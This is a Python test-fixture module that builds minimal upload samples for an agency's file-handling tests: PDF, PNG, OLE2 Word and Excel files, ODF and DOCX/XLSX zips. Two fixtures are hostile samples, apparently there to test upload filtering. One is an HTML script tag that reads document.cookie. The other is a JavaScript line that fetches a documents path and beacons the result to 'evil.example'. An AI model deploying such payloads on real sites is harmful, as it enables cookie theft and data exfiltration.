"""Small files of each type an agency uploads, built in code (no binary fixtures): the bytes that decide the
type are real, the rest is as little as the format allows."""

import io
import struct
import zipfile

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('/tai-lieu/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t));\n"

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def _dir_entry(name, kind, right=_FREE, child=_FREE):
    encoded = (name + "\x00").encode("utf-16-le") if name else b""
    entry = encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
    entry += struct.pack("<III", _FREE, right, child)  # left and right siblings, first child (none = 0xFFFFFFFF)
    entry += b"\x00" * 16 + b"\x00" * 4 + b"\x00" * 16  # CLSID, state bits, times
    entry += struct.pack("<IQ", _END, 0)  # start sector, size
    return entry


_HEADER = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16
    + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6  # version 3: 512-byte sectors
    + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)  # 1 FAT sector, directory at sector 1
    + struct.pack("<109I", 0, *[_FREE] * 108)  # the FAT is sector 0
)
_FAT_SECTOR = struct.pack("<128I", _FAT, _END, *[_FREE] * 126)


def _compound(entries):
    assert len(entries) <= 4, "one directory sector holds four entries"
    return _HEADER + _FAT_SECTOR + b"".join(entries).ljust(512, b"\x00")


def ole(*streams):
    """An OLE2 compound file (what Word 97-2003 .doc and Excel 97-2003 .xls are) holding these streams, empty.

    The header, one FAT sector (sector 0), one directory sector (sector 1). The root's children hang off its
    first child as a chain of right siblings (a valid, if unbalanced, tree).
    """
    entries = [_dir_entry("Root Entry", 5, child=1 if streams else _FREE)]
    entries += [_dir_entry(name, 2, right=i + 2 if i + 1 < len(streams) else _FREE) for i, name in enumerate(streams)]
    return _compound(entries)


def ole_with_storage(stream, storage, inner):
    """An OLE2 file with one stream at the root and a storage (a sub-folder) holding another stream: what an
    Excel file with an embedded Word document looks like."""
    return _compound([
        _dir_entry("Root Entry", 5, child=1),
        _dir_entry(stream, 2, right=2),
        _dir_entry(storage, 1, child=3),
        _dir_entry(inner, 2),
    ])


DOC = ole("WordDocument", "1Table", "\x05SummaryInformation")
XLS = ole("Workbook", "\x05SummaryInformation")
XLS_WITH_WORD = ole_with_storage("Workbook", "MBD0001", "WordDocument")
PPT = ole("PowerPoint Document", "Current User")  # an Office 97-2003 file that is neither


def zipped(entries, *, stored_first=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            name, data = stored_first
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odf(mimetype):
    return zipped({"content.xml": "<office:document-content/>", "META-INF/manifest.xml": "<manifest/>"},
                  stored_first=("mimetype", mimetype))


ODT = odf("application/vnd.oasis.opendocument.text")
ODS = odf("application/vnd.oasis.opendocument.spreadsheet")
ODP = odf("application/vnd.oasis.opendocument.presentation")
DOCX = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
XLSX = zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})


def stored():
    """{name: bytes} of every file in the default storage (local folder or the S3 server alike)."""
    from django.core.files.storage import default_storage

    from qms.core.files import walk

    result = {}
    for name in walk(default_storage):
        with default_storage.open(name, "rb") as handle:
            result[name] = handle.read()
    return result
